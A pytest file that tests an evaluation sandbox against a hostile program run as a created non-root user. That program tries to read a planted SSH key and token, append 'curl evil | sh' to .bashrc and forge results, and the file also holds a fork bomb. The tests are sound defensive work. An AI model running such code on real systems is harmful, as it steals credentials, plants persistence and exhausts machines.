"""The sandbox as a researcher on a cluster meets it: a non-root user, with and without user namespaces.

A real user is created for these tests (useradd; we are root in CI), with a planted SSH key, Hugging Face
token, .bashrc and a project with results/; the hostile program runs in the sandbox as root's evaluator and
as that user's evaluator, and must not read, write or rename any of it. The user's evaluator is the system
Python running `layerprune.evaluation.sandbox` from this source tree (the sandbox needs the standard library only).
Missing user namespaces are simulated honestly: the evaluator runs in a user namespace of its own whose
`user.max_user_namespaces` is 0, so the launcher's unshare(CLONE_NEWUSER) fails as it does on such a cluster.
"""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
import uuid
from pathlib import Path

import pytest

import layerprune
from layerprune.evaluation.sandbox import (
    UID_BASE,
    WORK_PREFIX,
    SandboxLimits,
    _cgroup_dirs_of_slots,
    reap_stale,
    run_program,
)

SRC = str(Path(layerprune.__file__).parents[1])
SYSTEM_PYTHON = shutil.which("python3", path="/usr/bin:/bin")
LIMITS = {"timeout_s": 20, "cpu_s": 10, "memory_mb": 512, "nproc": 8}

# Run first in the evaluator, as the user: a user namespace whose child-namespace budget is 0.
NO_USERNS = """\
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
uid, gid = os.getuid(), os.getgid()
if libc.unshare(0x10000000) != 0:
    raise SystemExit("unshare: " + os.strerror(ctypes.get_errno()))
for name, text in (("setgroups", "deny"), ("uid_map", f"{uid} {uid} 1"), ("gid_map", f"{gid} {gid} 1")):
    with open(f"/proc/self/{name}", "w") as handle:
        handle.write(text)
with open("/proc/sys/user/max_user_namespaces", "w") as handle:
    handle.write("0")
"""

DRIVER = """\
import json, sys
from layerprune.evaluation.sandbox import SandboxLimits, SandboxUnavailable, run_program
program, limits = sys.argv[1], json.loads(sys.argv[2])
try:
    r = run_program(program, SandboxLimits(**limits), completion_marker=False)
    print(json.dumps({"passed": r.passed, "stdout": r.stdout, "stderr": r.stderr, "isolation": r.isolation}))
except SandboxUnavailable as error:
    print(json.dumps({"unavailable": str(error)}))
"""


def hostile(home: Path, project: Path, port: int) -> str:
    """A program that tries what issue 17 saw a program do as the researcher; prints each outcome."""
    return f"""\
import json, os, socket
home, project, outcome = {str(home)!r}, {str(project)!r}, {{}}
def attempt(name, action):
    try:
        action()
        outcome[name] = "done"
    except OSError as error:
        outcome[name] = "blocked: " + type(error).__name__
attempt("read ssh key", lambda: open(home + "/.ssh/id_rsa").read())
attempt("read hf token", lambda: open(home + "/.cache/huggingface/token").read())
attempt("append .bashrc", lambda: open(home + "/.bashrc", "a").write("curl evil | sh\\n"))
attempt("write results", lambda: open(project + "/results/forged.json", "w").write("{{}}"))
attempt("rename README", lambda: os.rename(project + "/README.md", project + "/README.old"))
attempt("list home", lambda: os.listdir(home))
attempt("connect", lambda: socket.create_connection(("127.0.0.1", {port}), timeout=2).close())
outcome["processes seen"] = len([p for p in os.listdir("/proc") if p.isdigit()]) if os.path.isdir("/proc/1") else 0
print(json.dumps(outcome))
"""


@pytest.fixture(scope="module")
def researcher(tmp_path_factory):
    """A fresh non-root user, or a skip that says why there cannot be one."""
    if os.geteuid() != 0:
        pytest.skip("creating a user needs root")
    if SYSTEM_PYTHON is None:
        pytest.skip("no system python3 that a new user can run")
    name = f"lp{uuid.uuid4().hex[:8]}"
    made = subprocess.run(["useradd", "--create-home", "--shell", "/bin/sh", name], capture_output=True, text=True)
    if made.returncode != 0:
        pytest.skip(f"this machine cannot create users: {made.stderr.strip()}")
    import pwd

    entry = pwd.getpwnam(name)
    probe = _as_user(entry, ["-c", "import layerprune.evaluation.sandbox"])
    if probe.returncode != 0:
        subprocess.run(["userdel", "--remove", name], capture_output=True)
        pytest.skip(f"the new user cannot import layerprune from {SRC}: {probe.stderr.strip()[-200:]}")
    yield entry
    subprocess.run(["userdel", "--remove", "--force", name], capture_output=True)


def _as_user(
    entry, args: list[str], no_userns: bool = False, input: str | None = None, **popen
) -> subprocess.CompletedProcess:
    prefix = ["-c", NO_USERNS + f"os.execv({SYSTEM_PYTHON!r}, [{SYSTEM_PYTHON!r}] + sys.argv[1:])"] if no_userns else []
    command = [SYSTEM_PYTHON, *prefix, *args]
    env = {"HOME": entry.pw_dir, "PATH": "/usr/bin:/bin", "PYTHONPATH": SRC}
    kwargs = dict(user=entry.pw_uid, group=entry.pw_gid, extra_groups=[], env=env, cwd=entry.pw_dir)
    if popen:
        return subprocess.Popen(command, **kwargs, **popen)
    return subprocess.run(command, **kwargs, capture_output=True, text=True, timeout=600, input=input)


def _plant(entry) -> tuple[Path, Path, dict[Path, str]]:
    """Secrets and a project in the user's home, left open to everyone (0644 files, 0777 dirs), so that only the
    sandbox's own root, not file modes or uids, keeps a program out of them."""
    home = Path(entry.pw_dir)
    home.chmod(0o755)
    files = {
        home / ".ssh" / "id_rsa": f"-----BEGIN OPENSSH PRIVATE KEY----- {uuid.uuid4().hex}\n",
        home / ".cache" / "huggingface" / "token": f"hf_{uuid.uuid4().hex}\n",
        home / ".bashrc": "# the researcher's shell\n",
        home / "project" / "README.md": "# the project\n",
    }
    for path, text in files.items():
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        path.chmod(0o644)
    (home / "project" / "results").mkdir(exist_ok=True)
    for directory in (home / ".ssh", home / ".cache", home / "project", home / "project" / "results"):
        directory.chmod(0o777)
    for path in [home, *home.rglob("*")]:
        os.chown(path, entry.pw_uid, entry.pw_gid)
    return home, home / "project", files


def _untouched(project: Path, files: dict[Path, str]) -> None:
    for path, text in files.items():
        assert path.read_text() == text, f"the sandboxed program changed {path}"
    assert not (project / "README.old").exists() and not (project / "results" / "forged.json").exists()


@pytest.fixture
def listening_port():
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as server:
        server.bind(("127.0.0.1", 0))
        server.listen(8)
        yield server.getsockname()[1]


@pytest.mark.parametrize("evaluator", ["root", "user"])
def test_hostile_program_cannot_touch_home_secrets_or_project(researcher, listening_port, evaluator):
    home, project, files = _plant(researcher)
    program = hostile(home, project, listening_port)
    if evaluator == "root":
        result = run_program(program, SandboxLimits(**LIMITS))
        outcome, isolation = json.loads(result.stdout), result.isolation
    else:
        done = _as_user(researcher, ["-c", DRIVER, program, json.dumps(LIMITS)])
        reply = json.loads(done.stdout.splitlines()[-1])
        assert "unavailable" not in reply, reply
        outcome, isolation = json.loads(reply["stdout"]), reply["isolation"]
    print(evaluator, outcome, isolation)
    for action, verdict in outcome.items():
        if action != "processes seen":
            assert verdict.startswith("blocked"), (action, verdict)
    assert outcome["processes seen"] <= 2  # only the sandbox's own (a fresh /proc, or none at all)
    assert isolation["level"] == "strict" and isolation["private_root"] and not isolation["missing"]
    _untouched(project, files)


def test_without_user_namespaces_strict_refuses_and_best_effort_says_so(researcher, listening_port):
    home, project, files = _plant(researcher)
    program = hostile(home, project, listening_port)
    refused = _as_user(researcher, ["-c", DRIVER, program, json.dumps(LIMITS)], no_userns=True)
    reply = json.loads(refused.stdout.splitlines()[-1])
    print(reply)
    assert "user namespaces" in reply["unavailable"], reply
    assert "evaluation.sandbox.isolation: best_effort" in reply["unavailable"]
    _untouched(project, files)  # nothing ran

    weak = _as_user(researcher, ["-c", DRIVER, program, json.dumps({**LIMITS, "isolation_level": "best_effort"})], True)
    reply = json.loads(weak.stdout.splitlines()[-1])
    isolation = reply["isolation"]
    assert isolation["level"] == "best_effort" and isolation["required"] == "best_effort"
    assert any("user namespaces" in m for m in isolation["missing"]) and not isolation["private_root"]
    # What best_effort means, recorded rather than hidden: the program reached the researcher's key.
    assert json.loads(reply["stdout"])["read ssh key"] == "done"


FORKS_THREE = (
    "import os\n"
    "pids = []\n"
    "for _ in range(3):\n"
    "    pid = os.fork()\n"
    "    if pid == 0:\n"
    "        import time; time.sleep(0.5); os._exit(0)\n"
    "    pids.append(pid)\n"
    "for pid in pids:\n"
    "    os.waitpid(pid, 0)\n"
    "print('ok')\n"
)
FORK_BOMB = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"
BESIDE_A_BOMB = f"""\
import json, threading, time
from layerprune.evaluation.sandbox import SandboxLimits, run_program
bomb = threading.Thread(target=run_program, args=({FORK_BOMB!r}, SandboxLimits(timeout_s=12, cpu_s=12, nproc=8)))
bomb.start()
time.sleep(3)
verdicts = [run_program({FORKS_THREE!r}, SandboxLimits(timeout_s=20, nproc=8)) for _ in range(4)]
print(json.dumps({{"bomb_running": bomb.is_alive(), "passed": [v.passed for v in verdicts],
                  "stderr": [v.stderr[-300:] for v in verdicts], "limits": verdicts[0].isolation["limits"]}}))
bomb.join()
"""


@pytest.mark.slow  # ~15 s: waits out a 12 s fork bomb
def test_as_a_user_a_fork_bomb_next_door_does_not_fail_correct_programs(researcher):
    # All are the same user: only the per-user-namespace count (Linux >= 5.14) keeps the bomb's processes
    # out of the correct programs' RLIMIT_NPROC.
    done = _as_user(researcher, ["-c", BESIDE_A_BOMB])
    reply = json.loads(done.stdout.splitlines()[-1])
    print(reply)
    assert reply["bomb_running"], "the correct programs did not run beside the fork bomb"
    assert all(reply["passed"]), reply["stderr"]
    assert "user namespace" in reply["limits"]["processes"]


SLEEPER = "import os, time\nfor _ in range(2):\n    if os.fork() == 0:\n        break\ntime.sleep(60)\n"
EVALUATOR = """\
import sys
from layerprune.evaluation.sandbox import SandboxLimits, run_program
run_program(sys.argv[1], SandboxLimits(timeout_s=60, cpu_s=60, nproc=8))
"""


def _descendants(root: int) -> set[int]:
    children: dict[int, list[int]] = {}
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                stat = (entry / "stat").read_bytes()
            except OSError:
                continue
            children.setdefault(int(stat[stat.rindex(b")") + 2 :].split()[1]), []).append(int(entry.name))
    found, stack = set(), [root]
    while stack:
        for child in children.get(stack.pop(), []):
            found.add(child)
            stack.append(child)
    return found


@pytest.mark.parametrize("evaluator", ["root", "user"])
def test_a_killed_evaluator_leaves_no_sandbox_behind(researcher, evaluator):
    if evaluator == "root":
        env = {"PYTHONPATH": SRC, "PATH": os.environ["PATH"]}
        process = subprocess.Popen([sys.executable, "-c", EVALUATOR, SLEEPER], env=env)
    else:
        process = _as_user(researcher, ["-c", EVALUATOR, SLEEPER], stdout=subprocess.DEVNULL)
    deadline = time.monotonic() + 30
    tree: set[int] = set()
    while len(tree) < 4 and time.monotonic() < deadline:  # the launcher, the program and its 2 forks
        time.sleep(0.1)
        tree = _descendants(process.pid)
    assert len(tree) >= 4, f"the sandbox never started: {tree}"
    sandbox_uids = set()
    for pid in tree:
        with contextlib.suppress(OSError):
            if Path(f"/proc/{pid}").stat().st_uid >= UID_BASE:
                sandbox_uids.add(Path(f"/proc/{pid}").stat().st_uid)
    os.kill(process.pid, signal.SIGKILL)
    process.wait()
    killed_at = time.monotonic()
    while any(Path(f"/proc/{pid}").exists() for pid in tree) and time.monotonic() - killed_at < 2:
        time.sleep(0.05)
    alive = {pid for pid in tree if Path(f"/proc/{pid}").exists()}
    assert not alive, f"2 s after the evaluator's SIGKILL, sandbox processes {sorted(alive)} still run"

    # What only the evaluator could remove (its work directory; as root, the cgroups) goes at the next start.
    tmp = Path(tempfile.gettempdir() if evaluator == "root" else "/tmp")  # the user's evaluator has no TMPDIR
    left = list(tmp.glob(f"{WORK_PREFIX}{process.pid}-*"))
    assert left, "nothing was left to reap: the test did not catch the evaluator mid-run"
    if evaluator == "root":
        removed = reap_stale()
        assert removed["work_dirs"] >= 1, removed
        assert sandbox_uids, "no process of the sandbox's own uid"
        groups = [g for g in _cgroup_dirs_of_slots() if int(g.name[4:]) in sandbox_uids]
        print(removed, sandbox_uids, groups)
        assert not groups, f"the killed sandbox's cgroups outlived the next start: {groups}"
    else:
        _as_user(researcher, ["-c", "from layerprune.evaluation.sandbox import reap_stale; print(reap_stale())"])
    assert not any(p.exists() for p in left), left


# The cheating strategies of tests/test_sandbox_cheats.py, graded by the user's evaluator.
GRADER = """\
import json, sys
from layerprune.evaluation.graders import grade_code
from layerprune.evaluation.sandbox import SandboxLimits
sample, programs = json.loads(sys.stdin.read())
level = sys.argv[1] if len(sys.argv) > 1 else "strict"
limits = SandboxLimits(timeout_s=20, cpu_s=10, memory_mb=512, isolation_level=level)
graded = {name: grade_code(sample, text, chat=False, limits=limits) for name, text in programs.items()}
print(json.dumps({name: [g["error_bucket"], g["isolation"]["user"]] for name, g in graded.items()}))
print(json.dumps(graded["correct"]["isolation"]))
"""


@pytest.mark.slow  # 28 judged sandboxes in a row
def test_as_a_user_every_cheating_wrong_answer_fails(researcher, tmp_path):
    from helpers.sandbox_probes import FAILED, STRATEGIES

    from layerprune.evaluation.tasks import prepare_task_spec

    spec = {"type": "generative", "dataset": "humaneval", "num_fewshot": 0, "limit": 1}
    sample = prepare_task_spec(spec, tmp_path, 0, tmp_path / "t.json")["samples"][0]
    programs = {"correct": sample["solution"], **STRATEGIES}
    done = _as_user(researcher, ["-c", GRADER], input=json.dumps([sample, programs]))
    assert done.returncode == 0, done.stderr[-2000:]
    graded = json.loads(done.stdout.splitlines()[0])
    assert {user for _, user in graded.values()} == {researcher.pw_uid}  # the user's own evaluator, not root's
    assert graded.pop("correct")[0] == "pass"
    assert {name: bucket for name, (bucket, _) in graded.items() if bucket not in FAILED} == {}


def test_as_a_user_memfd_and_a_nested_tmpfs_cannot_hold_memory_past_the_limit(researcher):
    from helpers.sandbox_probes import MEMORY_PROBE, check_memory_probe

    limits = {"timeout_s": 30, "cpu_s": 20, "memory_mb": 256, "tmpfs_mb": 64}
    done = _as_user(researcher, ["-c", DRIVER, MEMORY_PROBE, json.dumps(limits)])
    assert done.returncode == 0, done.stderr[-2000:]
    run = json.loads(done.stdout)
    assert run["isolation"]["user"] == researcher.pw_uid and run["isolation"]["seccomp"] is True, run["isolation"]
    check_memory_probe(run["passed"], run["stdout"], 256, 64)


def test_without_user_namespaces_best_effort_still_grades_with_a_judge_and_says_what_is_missing(researcher, tmp_path):
    from layerprune.evaluation.tasks import prepare_task_spec

    spec = {"type": "generative", "dataset": "humaneval", "num_fewshot": 0, "limit": 1}
    sample = prepare_task_spec(spec, tmp_path, 0, tmp_path / "t.json")["samples"][0]
    programs = {"correct": sample["solution"], "wrong": "    return None\n", "exits": "    return None\nexit()\n"}
    done = _as_user(researcher, ["-c", GRADER, "best_effort"], no_userns=True, input=json.dumps([sample, programs]))
    assert done.returncode == 0, done.stderr[-2000:]
    graded, isolation = (json.loads(line) for line in done.stdout.splitlines()[:2])
    assert {name: bucket for name, (bucket, _) in graded.items()} == {
        "correct": "pass",
        "wrong": "wrong_answer",
        "exits": "early_exit",
    }
    assert isolation["level"] == "best_effort" and not isolation["namespaces"], isolation
    assert any("a judge out of the program's reach" in m for m in isolation["missing"]), isolation["missing"]
